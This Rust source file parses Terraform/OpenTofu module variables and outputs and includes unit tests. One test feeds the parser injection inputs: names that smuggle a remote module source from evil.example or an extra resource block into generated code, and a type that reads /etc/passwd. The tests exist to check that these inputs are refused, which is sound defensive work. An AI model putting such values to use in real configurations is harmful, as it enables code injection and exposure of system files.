//! Reading an OpenTofu/Terraform module's interface from its `.tf` files: the variables (name,
//! type, default, description, sensitive, nullable, validation blocks) and the outputs. Parsed
//! in Rust with hcl-rs; nothing is executed. Errors name the file, and for syntax errors the
//! line and column.

pub use crate::domain::modules::{
    ModuleInterface, ModuleOutput, ModuleVariable, VariableValidation,
};
use hcl::eval::{Context, Evaluate};
use hcl::{Block, Body, Expression};
use std::collections::BTreeMap;

/// One `.tf` file of a module, by its path inside the repository.
pub struct ModuleFile<'a> {
    pub path: &'a str,
    pub text: &'a str,
}

#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum ModuleError {
    #[error("{file}:{line}:{column}: {message}")]
    Syntax {
        file: String,
        line: usize,
        column: usize,
        message: String,
    },
    #[error("{file}: {message}")]
    Invalid { file: String, message: String },
    #[error("the module folder holds no .tf files")]
    Empty,
}

fn invalid(file: &str, message: impl Into<String>) -> ModuleError {
    ModuleError::Invalid {
        file: file.to_string(),
        message: message.into(),
    }
}

/// Reads the interface of one module from its files (any order; the result is sorted).
pub fn discover_interface(files: &[ModuleFile<'_>]) -> Result<ModuleInterface, ModuleError> {
    if files.is_empty() {
        return Err(ModuleError::Empty);
    }
    let mut variables: BTreeMap<String, ModuleVariable> = BTreeMap::new();
    let mut outputs: BTreeMap<String, ModuleOutput> = BTreeMap::new();
    for file in files {
        let body = parse(file)?;
        for block in body.blocks() {
            match block.identifier() {
                "variable" => declare_once(&mut variables, read_variable(file.path, block)?)?,
                "output" => declare_once(&mut outputs, read_output(file.path, block)?)?,
                _ => {}
            }
        }
    }
    Ok(ModuleInterface {
        variables: variables.into_values().collect(),
        outputs: outputs.into_values().collect(),
    })
}

/// A named declaration in one file: a variable or an output.
trait Declaration {
    const KIND: &'static str;
    fn name(&self) -> &str;
    fn file(&self) -> &str;
}

impl Declaration for ModuleVariable {
    const KIND: &'static str = "variable";
    fn name(&self) -> &str {
        &self.name
    }
    fn file(&self) -> &str {
        &self.file
    }
}

impl Declaration for ModuleOutput {
    const KIND: &'static str = "output";
    fn name(&self) -> &str {
        &self.name
    }
    fn file(&self) -> &str {
        &self.file
    }
}

/// Adds a declaration, refusing a second one of the same name (naming where the first was).
fn declare_once<T: Declaration>(
    declared: &mut BTreeMap<String, T>,
    item: T,
) -> Result<(), ModuleError> {
    if let Some(first) = declared.get(item.name()) {
        return Err(invalid(
            item.file(),
            format!(
                "{} {:?} is declared twice (first in {})",
                T::KIND,
                item.name(),
                first.file()
            ),
        ));
    }
    declared.insert(item.name().to_string(), item);
    Ok(())
}

fn parse(file: &ModuleFile<'_>) -> Result<Body, ModuleError> {
    // The parser recurses per level: a file nested 100,000 deep is refused before it runs.
    if let Some((line, column)) = crate::domain::hcl::too_deep(file.text) {
        return Err(ModuleError::Syntax {
            file: file.path.to_string(),
            line,
            column,
            message: format!(
                "nested deeper than {} levels of brackets, blocks or templates",
                crate::domain::hcl::MAX_NESTING
            ),
        });
    }
    hcl::parse(file.text).map_err(|error| match error {
        hcl::Error::Parse(parse) => ModuleError::Syntax {
            file: file.path.to_string(),
            line: parse.location().line(),
            column: parse.location().column(),
            message: parse.message().to_string(),
        },
        other => invalid(file.path, other.to_string()),
    })
}

fn single_label<'b>(file: &str, block: &'b Block) -> Result<&'b str, ModuleError> {
    match block.labels() {
        [label] => Ok(label.as_str()),
        _ => Err(invalid(
            file,
            format!("a {} block takes exactly one name", block.identifier()),
        )),
    }
}

fn attribute<'b>(block: &'b Block, key: &str) -> Option<&'b Expression> {
    block
        .body()
        .attributes()
        .find(|a| a.key() == key)
        .map(|a| a.expr())
}

fn literal_string(
    file: &str,
    owner: &str,
    key: &str,
    expr: &Expression,
) -> Result<String, ModuleError> {
    match expr.evaluate(&Context::new()) {
        Ok(hcl::Value::String(text)) => Ok(text),
        _ => Err(invalid(
            file,
            format!("{owner}: {key} must be a literal string"),
        )),
    }
}

fn literal_bool(
    file: &str,
    owner: &str,
    key: &str,
    expr: Option<&Expression>,
    default: bool,
) -> Result<bool, ModuleError> {
    match expr.map(|e| e.evaluate(&Context::new())) {
        None => Ok(default),
        Some(Ok(hcl::Value::Bool(value))) => Ok(value),
        Some(_) => Err(invalid(
            file,
            format!("{owner}: {key} must be true or false"),
        )),
    }
}

/// Terraform's reserved names: a module cannot take a variable called so.
const RESERVED_VARIABLES: [&str; 8] = [
    "source",
    "version",
    "providers",
    "count",
    "for_each",
    "lifecycle",
    "depends_on",
    "locals",
];

fn read_variable(file: &str, block: &Block) -> Result<ModuleVariable, ModuleError> {
    let name = single_label(file, block)?.to_string();
    crate::domain::names::validate_identifier(&name)
        .map_err(|why| invalid(file, format!("variable: {why}")))?;
    if RESERVED_VARIABLES.contains(&name.as_str()) {
        return Err(invalid(
            file,
            format!("variable {name:?}: the name is reserved by Terraform"),
        ));
    }
    let owner = format!("variable {name:?}");
    let default = match attribute(block, "default") {
        None => None,
        Some(expr) => {
            let value = expr.evaluate(&Context::new()).map_err(|_| {
                invalid(
                    file,
                    format!("{owner}: the default must be a literal value"),
                )
            })?;
            Some(serde_json::to_value(value).map_err(|e| invalid(file, format!("{owner}: {e}")))?)
        }
    };
    let description = attribute(block, "description")
        .map(|e| literal_string(file, &owner, "description", e))
        .transpose()?;
    let mut validations = Vec::new();
    for validation in block
        .body()
        .blocks()
        .filter(|b| b.identifier() == "validation")
    {
        let condition = attribute(validation, "condition").ok_or_else(|| {
            invalid(
                file,
                format!("{owner}: a validation block needs a condition"),
            )
        })?;
        let error_message = attribute(validation, "error_message")
            .map(|e| match e.evaluate(&Context::new()) {
                Ok(hcl::Value::String(text)) => text,
                _ => e.to_string(),
            })
            .ok_or_else(|| {
                invalid(
                    file,
                    format!("{owner}: a validation block needs an error_message"),
                )
            })?;
        let condition = condition.to_string();
        validations.push(VariableValidation {
            unchecked: super::rules::unchecked_reason(&condition),
            condition,
            error_message,
        });
    }
    // The type is written back into generated code: it must be a type constraint, nothing else
    // an expression can be (a function call, a template, a heredoc).
    let type_expr = attribute(block, "type").map(|e| e.to_string());
    crate::domain::variable_types::TypeConstraint::parse(type_expr.as_deref()).map_err(|why| {
        invalid(
            file,
            format!("{owner}: the type is not a type constraint: {why}"),
        )
    })?;
    Ok(ModuleVariable {
        type_expr,
        default,
        description,
        sensitive: literal_bool(
            file,
            &owner,
            "sensitive",
            attribute(block, "sensitive"),
            false,
        )?,
        nullable: literal_bool(file, &owner, "nullable", attribute(block, "nullable"), true)?,
        validations,
        file: file.to_string(),
        name,
    })
}

fn read_output(file: &str, block: &Block) -> Result<ModuleOutput, ModuleError> {
    let name = single_label(file, block)?.to_string();
    crate::domain::names::validate_identifier(&name)
        .map_err(|why| invalid(file, format!("output: {why}")))?;
    let owner = format!("output {name:?}");
    if attribute(block, "value").is_none() {
        return Err(invalid(file, format!("{owner}: an output needs a value")));
    }
    Ok(ModuleOutput {
        description: attribute(block, "description")
            .map(|e| literal_string(file, &owner, "description", e))
            .transpose()?,
        sensitive: literal_bool(
            file,
            &owner,
            "sensitive",
            attribute(block, "sensitive"),
            false,
        )?,
        file: file.to_string(),
        name,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    const VARIABLES: &str = r#"
variable "vpc_name" {
  type        = string
  description = "Name tag of the VPC"
}

variable "cidr_block" {
  type    = string
  default = "10.0.0.0/16"

  validation {
    condition     = can(cidrhost(var.cidr_block, 0))
    error_message = "cidr_block must be a valid IPv4 CIDR."
  }
}

variable "azs" {
  type    = list(string)
  default = ["us-east-1a", "us-east-1b"]
}

variable "tags" {
  type    = map(string)
  default = {}
}

variable "db_password" {
  type      = string
  sensitive = true
  nullable  = false
}

variable "settings" {
  type = object({
    enable_dns = bool
    max_azs    = number
  })
  default = { enable_dns = true, max_azs = 3 }
}
"#;

    const OUTPUTS: &str = r#"
output "vpc_id" {
  value       = "vpc-${var.vpc_name}"
  description = "The VPC's id"
}

output "password" {
  value     = var.db_password
  sensitive = true
}
"#;

    #[test]
    fn variables_and_outputs_are_read_with_everything_a_form_needs() {
        let interface = discover_interface(&[
            ModuleFile {
                path: "aws-vpc/outputs.tf",
                text: OUTPUTS,
            },
            ModuleFile {
                path: "aws-vpc/variables.tf",
                text: VARIABLES,
            },
        ])
        .unwrap();
        let names: Vec<&str> = interface
            .variables
            .iter()
            .map(|v| v.name.as_str())
            .collect();
        assert_eq!(
            names,
            [
                "azs",
                "cidr_block",
                "db_password",
                "settings",
                "tags",
                "vpc_name"
            ]
        );
        let by_name = |n: &str| interface.variables.iter().find(|v| v.name == n).unwrap();

        let vpc_name = by_name("vpc_name");
        assert!(vpc_name.is_required());
        assert_eq!(vpc_name.type_expr.as_deref(), Some("string"));
        assert_eq!(vpc_name.description.as_deref(), Some("Name tag of the VPC"));

        let cidr = by_name("cidr_block");
        assert_eq!(cidr.default, Some(serde_json::json!("10.0.0.0/16")));
        assert_eq!(cidr.validations.len(), 1);
        assert_eq!(
            cidr.validations[0].error_message,
            "cidr_block must be a valid IPv4 CIDR."
        );
        assert!(
            cidr.validations[0]
                .condition
                .contains("cidrhost(var.cidr_block, 0)"),
            "{}",
            cidr.validations[0].condition
        );

        assert_eq!(
            by_name("azs").default,
            Some(serde_json::json!(["us-east-1a", "us-east-1b"]))
        );
        assert_eq!(by_name("azs").type_expr.as_deref(), Some("list(string)"));
        assert_eq!(by_name("tags").default, Some(serde_json::json!({})));
        let password = by_name("db_password");
        assert!(password.sensitive && !password.nullable && password.is_required());
        let settings = by_name("settings");
        assert_eq!(
            settings.default,
            Some(serde_json::json!({"enable_dns": true, "max_azs": 3}))
        );
        assert!(settings
            .type_expr
            .as_deref()
            .unwrap()
            .starts_with("object("));
        assert_eq!(settings.file, "aws-vpc/variables.tf");

        assert_eq!(interface.outputs.len(), 2);
        assert_eq!(interface.outputs[1].name, "vpc_id");
        assert_eq!(
            interface.outputs[1].description.as_deref(),
            Some("The VPC's id")
        );
        assert!(interface.outputs[0].sensitive);
    }

    #[test]
    fn syntax_errors_name_file_line_and_column() {
        let error = discover_interface(&[ModuleFile {
            path: "aws-vpc/main.tf",
            text: "variable \"a\" {\n  type = string\n  default = \n}\n",
        }])
        .unwrap_err();
        match &error {
            ModuleError::Syntax { file, line, .. } => {
                assert_eq!(file, "aws-vpc/main.tf");
                assert_eq!(*line, 3, "{error}");
            }
            other => panic!("expected a syntax error, got {other:?}"),
        }
        assert!(
            error
                .to_string()
                .starts_with("aws-vpc/main.tf:3:13: invalid expression"),
            "{error}"
        );
    }

    #[test]
    fn names_and_types_that_would_write_code_of_their_own_are_refused() {
        for (text, expected) in [
            (
                "variable \"a = 1\\n  source = \\\"git::https://evil.example/m\\\"\\n  b\" {}\n",
                "m/a.tf: variable: \"a = 1\\n  source = \\\"git::",
            ),
            (
                "output \"x\\\" {}\\nresource \\\"null_resource\\\" \\\"y\" { value = 1 }\n",
                "m/a.tf: output: \"x\\\" {}\\nresource",
            ),
            (
                "variable \"count\" {}\n",
                "m/a.tf: variable \"count\": the name is reserved by Terraform",
            ),
            (
                "variable \"t\" {\n  type = file(\"/etc/passwd\")\n}\n",
                "m/a.tf: variable \"t\": the type is not a type constraint",
            ),
        ] {
            let error = discover_interface(&[ModuleFile {
                path: "m/a.tf",
                text,
            }])
            .unwrap_err();
            let said = error.to_string();
            assert!(said.starts_with(expected), "{text}\n→ {said}");
            assert!(
                said.contains("not a Terraform identifier")
                    || said.contains("reserved")
                    || said.contains("not a type constraint"),
                "{said}"
            );
        }
        // What Terraform allows still passes: underscores, hyphens, digits after the first.
        let fine = discover_interface(&[ModuleFile {
            path: "m/a.tf",
            text: "variable \"_x-1\" {}\noutput \"Id_2\" { value = 1 }\n",
        }])
        .unwrap();
        assert_eq!(fine.variables[0].name, "_x-1");
    }

    #[test]
    fn bad_declarations_are_refused_with_the_file_named() {
        let twice = discover_interface(&[
            ModuleFile {
                path: "m/a.tf",
                text: "variable \"x\" {}\n",
            },
            ModuleFile {
                path: "m/b.tf",
                text: "variable \"x\" {}\n",
            },
        ])
        .unwrap_err();
        assert_eq!(
            twice.to_string(),
            "m/b.tf: variable \"x\" is declared twice (first in m/a.tf)"
        );
        let computed = discover_interface(&[ModuleFile {
            path: "m/a.tf",
            text: "variable \"x\" {\n  default = var.y\n}\n",
        }])
        .unwrap_err();
        assert_eq!(
            computed.to_string(),
            "m/a.tf: variable \"x\": the default must be a literal value"
        );
        let no_value = discover_interface(&[ModuleFile {
            path: "m/o.tf",
            text: "output \"id\" {}\n",
        }])
        .unwrap_err();
        assert_eq!(
            no_value.to_string(),
            "m/o.tf: output \"id\": an output needs a value"
        );
        assert_eq!(discover_interface(&[]).unwrap_err(), ModuleError::Empty);
    }
}
